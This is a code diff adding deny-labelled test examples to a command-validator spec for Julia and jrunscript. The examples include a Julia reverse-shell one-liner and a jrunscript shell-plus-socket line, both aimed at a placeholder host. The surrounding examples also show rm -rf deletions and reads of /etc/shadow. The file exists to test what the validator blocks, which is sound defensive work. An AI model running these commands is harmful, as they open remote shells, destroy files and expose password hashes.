@@ -276,6 +276,10 @@ export const programs: readonly ProgramSpec[] = [
     examples: [
       { command: 'julia --project=. test/runtests.jl', expect: 'pass' },
       { command: "julia -e 'run(`rm -rf /home`)'", expect: 'deny' },
+      {
+        command: 'julia -e \'using Sockets; s=connect("h", 1); while true; c = readline(s); run(`$c`); end\'',
+        expect: 'deny',
+      },
     ],
   },
   {
@@ -432,6 +436,11 @@ export const programs: readonly ProgramSpec[] = [
     examples: [
       { command: 'jrunscript a.js', expect: 'pass' },
       { command: 'jrunscript -e \'exec("rm -rf ~")\'', expect: 'deny' },
+      {
+        command:
+          'jrunscript -e \'var p=new java.lang.ProcessBuilder("/bin/sh").start(); var s=new java.net.Socket("h",1);\'',
+        expect: 'deny',
+      },
       { command: 'jrunscript -e \'new java.io.FileReader("/etc/shadow")\'', expect: 'deny' },
       {
         command: "jjs\nvar F = Java.type('java.io.FileReader');\nnew F('/etc/shadow');",
